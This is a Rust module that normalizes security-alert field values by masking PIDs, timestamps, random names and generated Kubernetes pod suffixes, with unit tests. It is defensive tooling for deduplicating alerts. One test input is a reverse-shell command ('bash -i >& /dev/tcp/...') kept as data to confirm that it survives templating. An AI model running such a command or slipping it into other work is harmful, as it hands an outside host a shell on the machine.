//! What two values have in common when they differ only in what chance or a counter wrote.

use std::borrow::Cow;

/// Fields that number something anew each time: they say nothing about what happened again.
const COUNTED: [&str; 24] = [
    "container.duration",
    "container.full_id",
    "container.id",
    "container.start_ts",
    "evt.cpu",
    "evt.num",
    "fd.cport",
    "fd.ino",
    "fd.lport",
    "fd.num",
    "k8s.pod.uid",
    "proc.duration",
    "proc.exe_ino",
    "proc.pgid",
    "proc.pid",
    "proc.ppid",
    "proc.pvpid",
    "proc.sid",
    "proc.vpgid",
    "proc.vpid",
    "thread.nametid",
    "thread.tid",
    "thread.vnametid",
    "thread.vtid",
];

/// Families of them.
const COUNTED_FAMILIES: [&str; 11] = [
    "evt.abstime",
    "evt.datetime",
    "evt.deltatime",
    "evt.latency",
    "evt.rawtime",
    "evt.reltime",
    "evt.time",
    "proc.apid[",
    "proc.exe_ino.",
    "proc.pid.ts",
    "proc.ppid.",
];

/// Fields whose last parts Kubernetes makes up.
const GENERATED: [&str; 4] = ["k8s.pod.name", "k8s.rs.name", "k8smeta.pod.name", "ka.target.pod.name"];

/// What stands in a template for what changes.
pub const CHANGES: char = '*';

/// True for a field whose value is of no account when two alerts are compared: a number of a process, a time.
pub fn is_counted(field: &str) -> bool {
    COUNTED.contains(&field) || COUNTED_FAMILIES.iter().any(|family| field.starts_with(family))
}

/// `text`, a value of `field`, with everything in it that chance or a counter wrote replaced by [`CHANGES`]: numbers of four
/// digits or more, hexadecimal of eight or more, names made for one run, and the ends of generated pod names.
///
/// ```
/// assert_eq!(store::template("fd.name", "/tmp/tmp.Xq3ZpL9a/run-48213.sh"), "/tmp/tmp.*/run-*.sh");
/// assert_eq!(store::template("k8s.pod.name", "api-7d9f8b6c5d-x2x4z"), "api-*-*");
/// assert_eq!(store::template("proc.cmdline", "chmod 755 /usr/bin/python3"), "chmod 755 /usr/bin/python3");
/// ```
pub fn template<'t>(field: &str, text: &'t str) -> Cow<'t, str> {
    let generated = GENERATED.contains(&field);
    let mut out: Option<String> = None;
    let (mut at, mut kept) = (0, 0);
    let bytes = text.as_bytes();
    while at < bytes.len() {
        if !bytes[at].is_ascii_alphanumeric() {
            at += 1;
            continue;
        }
        let length = bytes[at..].iter().take_while(|byte| byte.is_ascii_alphanumeric()).count();
        let word = &bytes[at..at + length];
        let after_dash = at > 0 && bytes[at - 1] == b'-';
        if changes(word) || (generated && after_dash && is_generated(word)) {
            let out = out.get_or_insert_with(String::new);
            out.push_str(text.get(kept..at).unwrap_or(""));
            out.push(CHANGES);
            kept = at + length;
        }
        at += length;
    }
    match out {
        None => Cow::Borrowed(text),
        Some(mut out) => {
            out.push_str(text.get(kept..).unwrap_or(""));
            Cow::Owned(out)
        }
    }
}

/// Whether chance or a counter wrote a word.
fn changes(word: &[u8]) -> bool {
    let digits = word.iter().filter(|byte| byte.is_ascii_digit()).count();
    if digits == word.len() {
        return digits >= 4;
    }
    let hex = word.iter().all(u8::is_ascii_hexdigit);
    if hex && word.len() >= 8 && digits > 0 {
        return true;
    }
    // `Xq3ZpL9a`: letters and digits, or large and small letters, that take turns. `getElementById` has words in it.
    let kind = |byte: u8| if byte.is_ascii_digit() { 0 } else { 1 + u8::from(byte.is_ascii_uppercase()) };
    let turns = word.windows(2).filter(|pair| kind(pair[0]) != kind(pair[1])).count();
    // A leading capital is one turn that every name may have.
    word.len() >= 6 && turns >= 3 && turns * 3 >= word.len() && (digits > 0 || turns * 2 >= word.len())
}

/// The letters that Kubernetes makes names of: no vowels, so that no words come about (`k8s.io/apimachinery/pkg/util/rand`).
fn is_generated(word: &[u8]) -> bool {
    matches!(word.len(), 5 | 8..=10) && word.iter().all(|byte| b"bcdfghjklmnpqrstvwxz2456789".contains(byte))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(field: &str, text: &str, expected: &str) {
        assert_eq!(template(field, text), expected);
    }

    #[test]
    fn what_chance_wrote_is_replaced() {
        check("container.name", "6a8d3a881b96", "*");
        check("fd.name", "10.0.3.7:48122->10.0.0.1:443", "10.0.3.7:*->10.0.0.1:443");
        check(
            "proc.cmdline",
            "python3 /root/.ansible/tmp/ansible-tmp-1754719.26804-73267/A.py",
            "python3 /root/.ansible/tmp/ansible-tmp-*.*-*/A.py",
        );
        check("fd.name", "/var/lib/3f2504e0-4f89-11d3-9a0c-0305e82c3301/x", "/var/lib/*-4f89-11d3-9a0c-*/x");
        check("fd.name", "/tmp/crontab.aB3dE9", "/tmp/crontab.*");
        check("k8s.pod.name", "orders-api-p29vhlbhv7-rgkxx", "orders-api-*-*");
        check("k8s.pod.name", "node-agent-4vkcz", "node-agent-*");
    }

    #[test]
    fn what_says_something_stays() {
        for text in [
            "bash -i >& /dev/tcp/203.0.113.77/443",
            "/usr/bin/python3.10",
            "x86_64-linux-gnu",
            "getElementById",
            "deadbeef",
            "h\u{e9}\u{202e}",
            "",
        ] {
            check("proc.cmdline", text, text);
        }
        check("proc.cmdline", "api-x2x4z", "api-x2x4z");
        assert!(is_counted("proc.pid") && is_counted("proc.apid[2]") && is_counted("evt.time.iso8601"));
        assert!(!is_counted("proc.name") && !is_counted("evt.type") && !is_counted("fd.sport"));
    }
}
